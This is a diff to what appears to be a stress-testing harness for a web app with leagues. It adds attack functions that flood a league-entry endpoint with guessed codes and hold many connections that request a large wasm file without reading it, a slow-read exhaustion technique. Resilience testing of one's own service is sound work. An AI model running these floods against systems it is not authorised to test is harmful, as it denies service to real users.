@@ -138,6 +138,22 @@ def pages(target: Target) -> None:
 
 
 @attack
+def guesses(target: Target) -> None:
+    """Codes of leagues, guessed as fast as they are answered."""
+    wrong = json.dumps({"code": "AAAA-AAAA-AAAA"}).encode()
+    flood(target, (request(target, "/api/leagues/enter", wrong) for _ in itertools.count()), 250)
+
+
+@attack
+def unread_answers(target: Target) -> None:
+    """Connections that ask for a large file again and again and read nothing."""
+    version = re.search(rb"/static/\w+", ask(target, "/"))
+    assert version
+    wanted = request(target, f"{version[0].decode()}/wasm/core.wasm").replace(b"Accept-Encoding: gzip\r\n", b"")
+    hold(target, 12 * wanted, page=True)
+
+
+@attack
 def silence(target: Target) -> None:
     """Connections to the page that say nothing, and new ones for those that are closed."""
     hold(target, b"", page=True)
